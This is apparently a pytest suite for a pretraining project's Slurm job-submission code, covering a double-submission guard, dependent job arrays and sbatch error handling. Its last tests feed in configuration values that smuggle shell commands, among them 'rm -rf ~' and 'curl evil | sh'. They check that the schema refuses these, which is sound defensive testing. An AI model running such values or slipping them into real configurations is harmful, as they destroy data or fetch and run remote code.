"""Slurm submissions: the `submitted.json` guard, a chain of dependent job arrays and its sbatch options, and
submitting it (a stub `sbatch` on PATH stands in for Slurm: it keeps each script and its arguments)."""

from __future__ import annotations

import functools
import json
import operator
import os
from pathlib import Path

import dill
import pytest
from datatrove.executor import SlurmPipelineExecutor
from pydantic import ValidationError

from pretrain.config.data import SlurmConfig
from pretrain.core.errors import CurationSubmitted, PretrainError
from pretrain.core.slurm import (
    SUBMITTED,
    SlurmError,
    SlurmStep,
    SubmittedJobs,
    slurm_chain,
    step_executor,
    submit_chain,
)

SETTINGS = SlurmConfig(
    partition="cpu",
    time="01:30:00",
    cpus_per_task=4,
    mem_per_cpu_gb=3,
    qos="high",
    venv_path="/shared/venv",
    sbatch_args={"account": "lm", "constraint": "fast"},
)
TASK = functools.partial(operator.add, 1)  # a picklable step callable
PUBLISH = functools.partial(operator.mul, 2)


def chain(logs: Path, settings=SETTINGS) -> list:
    steps = [SlurmStep("pass", 8, [TASK]), SlurmStep("publish", 1, [PUBLISH])]
    return slurm_chain(settings, steps, "tiny-curate", logs)


def write_sbatch(bin_dir: Path, body: str) -> None:
    bin_dir.mkdir(exist_ok=True)
    stub = bin_dir / "sbatch"
    stub.write_text("#!/bin/sh\n" + body)
    stub.chmod(0o755)


@pytest.fixture()
def sbatch(tmp_path, monkeypatch) -> Path:
    """A stub `sbatch` answering `Submitted batch job 41NN`; it keeps `<id>.args` and `<id>.sbatch` in the
    folder it returns."""
    kept = tmp_path / "submitted"
    kept.mkdir()
    write_sbatch(
        tmp_path / "bin",
        f'id=$((4100 + $(ls {kept} | grep -c args)))\nprintf "%s\\n" "$@" > {kept}/$id.args\n'
        f'for last; do :; done\ncp "$last" {kept}/$id.sbatch\necho "Submitted batch job $id"\n',
    )
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    return kept


# ---------------------------------------------------------------------------------------------- the guard
def test_nothing_is_pending_before_a_submission(tmp_path):
    guard = SubmittedJobs(tmp_path / SUBMITTED)
    assert guard.pending() is None
    guard.refuse_if_pending("curate", "never raised")


def test_recorded_ids_are_pending_with_the_time_of_submission(tmp_path):
    guard = SubmittedJobs(tmp_path / "work" / SUBMITTED)  # the folder is created
    guard.record(["11", "12"])
    pending = guard.pending()
    assert pending["jobs"] == ["11", "12"] and pending["at"][:2] in ("19", "20")
    assert json.loads((tmp_path / "work" / SUBMITTED).read_text()) == pending


def test_a_pending_submission_refuses_a_second_one_naming_its_jobs(tmp_path):
    guard = SubmittedJobs(tmp_path / SUBMITTED)
    guard.record(["11", "12"])
    at = guard.pending()["at"]
    with pytest.raises(PretrainError) as info:
        guard.refuse_if_pending("curate", "Or delete the file.")
    assert str(info.value) == (
        f"curate jobs 11, 12 were submitted at {at} and have not finished; wait for them (squeue -j 11,12). "
        "Or delete the file."
    )


def test_the_refusal_is_the_guards_own_error(tmp_path):
    guard = SubmittedJobs(tmp_path / SUBMITTED, error=CurationSubmitted)
    guard.record(["7"])
    with pytest.raises(CurationSubmitted):
        guard.refuse_if_pending("curate", "")


def test_clearing_ends_the_pending_submission_and_may_be_repeated(tmp_path):
    guard = SubmittedJobs(tmp_path / SUBMITTED)
    guard.record(["11"])
    guard.clear()
    guard.clear()
    assert guard.pending() is None
    guard.refuse_if_pending("curate", "")


def test_an_unreadable_record_is_not_a_pending_submission(tmp_path):
    (tmp_path / SUBMITTED).write_text('{"jobs": ["11"')  # torn by a kill
    assert SubmittedJobs(tmp_path / SUBMITTED).pending() is None


# ---------------------------------------------------------------------------------------------- the chain
def test_a_chain_is_one_executor_per_step_each_after_the_one_before(tmp_path):
    jobs = chain(tmp_path / "logs")
    assert len(jobs) == 2 and all(type(job) is step_executor() for job in jobs)
    assert all(isinstance(job, SlurmPipelineExecutor) for job in jobs)
    assert jobs[0].depends is None and jobs[1].depends is jobs[0]
    assert [job.tasks for job in jobs] == [8, 1]
    assert [job.pipeline for job in jobs] == [[TASK], [PUBLISH]]
    assert all(job.skip_completed is False for job in jobs)  # the steps' own records decide what reruns


def test_each_step_logs_under_its_own_folder(tmp_path):
    jobs = chain(tmp_path / "logs")
    assert [job.logging_dir.path for job in jobs] == [
        str(tmp_path / "logs" / "pass"),
        str(tmp_path / "logs" / "publish"),
    ]


def test_the_sbatch_options_come_from_the_settings_and_the_step(tmp_path):
    args = chain(tmp_path / "logs")[0].get_sbatch_args()
    assert {k: args[k] for k in ("partition", "time", "qos", "mem-per-cpu", "job-name", "cpus-per-task")} == {
        "partition": "cpu",
        "time": "01:30:00",
        "qos": "high",
        "mem-per-cpu": "3G",
        "job-name": "tiny-curate-pass",
        "cpus-per-task": 4,
    }
    assert (args["account"], args["constraint"]) == ("lm", "fast")
    assert "gpus" not in args


def test_a_single_task_step_gets_one_cpu_unless_it_asks_for_more(tmp_path):
    one, asked = slurm_chain(
        SETTINGS,
        [SlurmStep("fit", 1, [TASK]), SlurmStep("big", 1, [TASK], cpus_per_task=6)],
        "tiny-ladder",
        tmp_path / "logs",
    )
    assert one.get_sbatch_args()["cpus-per-task"] == 1
    assert asked.get_sbatch_args()["cpus-per-task"] == 6


def test_a_step_asking_for_gpus_gets_them(tmp_path):
    (job,) = slurm_chain(SETTINGS, [SlurmStep("rungs", 4, [TASK], gpus_per_task=2)], "tiny-ladder", tmp_path)
    assert job.get_sbatch_args()["gpus"] == 2


def test_the_venv_is_sourced_from_its_activate_script(tmp_path):
    assert chain(tmp_path)[0].venv_path == str(Path("/shared/venv") / "bin" / "activate")
    assert chain(tmp_path, SETTINGS.model_copy(update={"venv_path": None}))[0].venv_path is None


def test_building_a_chain_submits_nothing(tmp_path, sbatch):
    chain(tmp_path / "logs")
    assert list(sbatch.iterdir()) == []


# ---------------------------------------------------------------------------------------------- submitting
def test_submitting_returns_the_ids_in_step_order_and_records_them(tmp_path, sbatch):
    guard = SubmittedJobs(tmp_path / SUBMITTED)
    assert submit_chain(chain(tmp_path / "logs"), guard) == ["4100", "4101"]
    assert guard.pending()["jobs"] == ["4100", "4101"]


def test_each_step_waits_for_the_one_before(tmp_path, sbatch):
    submit_chain(chain(tmp_path / "logs"), SubmittedJobs(tmp_path / SUBMITTED))
    first, second = ((sbatch / f"{i}.args").read_text().splitlines() for i in (4100, 4101))
    assert not any(a.startswith("--dependency") for a in first)
    assert "--dependency=afterok:4100" in second


def test_the_submitted_script_is_a_job_array_with_the_settings(tmp_path, sbatch):
    submit_chain(chain(tmp_path / "logs"), SubmittedJobs(tmp_path / SUBMITTED))
    script = (sbatch / "4100.sbatch").read_text()
    for line in (
        "#SBATCH --array=0-7",
        "#SBATCH --partition=cpu",
        "#SBATCH --job-name=tiny-curate-pass",
        "#SBATCH --account=lm",
        "#SBATCH --cpus-per-task=4",
    ):
        assert line in script.splitlines()
    assert "source /shared/venv/bin/activate" in script
    assert "#SBATCH --array=0-0" in (sbatch / "4101.sbatch").read_text()


def test_each_step_is_one_sbatch_call_without_a_stats_merging_job(tmp_path, sbatch):
    submit_chain(chain(tmp_path / "logs"), SubmittedJobs(tmp_path / SUBMITTED))
    assert sorted(p.name for p in sbatch.glob("*.args")) == ["4100.args", "4101.args"]


def test_merging_stats_submits_nothing(tmp_path, sbatch):
    job = chain(tmp_path / "logs")[0]
    job.job_id = "4099"
    assert job.launch_merge_stats() is None
    assert list(sbatch.iterdir()) == []


def test_the_executor_class_is_built_once():
    assert step_executor() is step_executor()
    assert issubclass(step_executor(), SlurmPipelineExecutor)


def test_each_step_pickles_its_pipeline_for_the_nodes(tmp_path, sbatch):
    submit_chain(chain(tmp_path / "logs"), SubmittedJobs(tmp_path / SUBMITTED))
    executor = dill.loads((tmp_path / "logs" / "pass" / "executor.pik").read_bytes())
    (task,) = executor.pipeline
    assert isinstance(executor, SlurmPipelineExecutor) and executor.tasks == 8
    assert (task.func, task.args) == (operator.add, (1,))
    assert task(41) == 42


def test_a_missing_sbatch_is_a_one_line_slurm_error_and_nothing_is_recorded(tmp_path, monkeypatch):
    (tmp_path / "empty").mkdir()
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    guard = SubmittedJobs(tmp_path / SUBMITTED)
    with pytest.raises(SlurmError) as info:
        submit_chain(chain(tmp_path / "logs"), guard)
    assert (
        str(info.value)
        == "sbatch is not on PATH; submit from a Slurm login node, or set the executor to local"
    )
    assert isinstance(info.value, PretrainError) and guard.pending() is None


def test_a_refused_job_is_a_one_line_slurm_error_with_what_sbatch_said(tmp_path, monkeypatch):
    write_sbatch(tmp_path / "bin", 'echo "sbatch: error: Invalid account"\necho "  or partition"\nexit 1\n')
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    guard = SubmittedJobs(tmp_path / SUBMITTED)
    with pytest.raises(SlurmError) as info:
        submit_chain(chain(tmp_path / "logs"), guard)
    assert str(info.value) == "sbatch failed: sbatch: error: Invalid account or partition"
    assert guard.pending() is None


def test_a_silent_failure_names_sbatchs_exit_status(tmp_path, monkeypatch):
    write_sbatch(tmp_path / "bin", "exit 3\n")
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    with pytest.raises(SlurmError, match=r"^sbatch failed: exit status 3$"):
        submit_chain(chain(tmp_path / "logs"), SubmittedJobs(tmp_path / SUBMITTED))


def test_the_reason_sbatch_gives_on_stderr_is_in_the_slurm_error(tmp_path, monkeypatch):
    write_sbatch(tmp_path / "bin", 'echo "sbatch: error: Invalid partition name specified" >&2\nexit 1\n')
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    with pytest.raises(SlurmError) as info:
        submit_chain(chain(tmp_path / "logs"), SubmittedJobs(tmp_path / SUBMITTED))
    assert "Invalid partition name specified" in str(info.value)


def test_an_sbatch_that_never_answers_is_a_slurm_error_within_its_timeout(tmp_path, monkeypatch):
    import pretrain.core.slurm as slurm

    write_sbatch(tmp_path / "bin", "sleep 60\n")
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setattr(slurm, "SBATCH_TIMEOUT_S", 1)
    guard = SubmittedJobs(tmp_path / SUBMITTED)
    with pytest.raises(SlurmError, match="sbatch did not answer within 1 s"):
        submit_chain(chain(tmp_path / "logs"), guard)
    assert guard.pending() is None


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"partition": "cpu\necho pwned"}, "partition"),
        ({"qos": "high\rrm -rf ~"}, "qos"),
        ({"sbatch_args": {"account": "lm\ncurl evil | sh"}}, "account"),
        ({"sbatch_args": {"acc ount=x\n#": "lm"}}, "sbatch option name"),
        ({"venv_path": "/venv; curl evil | sh"}, "venv_path"),
        ({"venv_path": "$(id)"}, "venv_path"),
    ],
)
def test_a_value_that_would_become_a_shell_line_is_refused_by_the_schema(change, named):
    """A newline in partition / qos / an sbatch_args value used to pass validate and become a line of the script."""
    with pytest.raises(ValidationError, match=named) as info:
        SlurmConfig(**{**SETTINGS.model_dump(), **change})
    assert (
        "control character" in str(info.value)
        or "interpret" in str(info.value)
        or "option name" in str(info.value)
    )


def test_an_output_folder_the_shell_would_interpret_is_refused_before_submitting(tmp_path, sbatch):
    logs = tmp_path / "out$(id >pwned)" / "logs"
    with pytest.raises(
        SlurmError, match=r"output folder .*\$.* which the batch script's shell would interpret"
    ):
        chain(logs)
    assert not list(sbatch.iterdir())
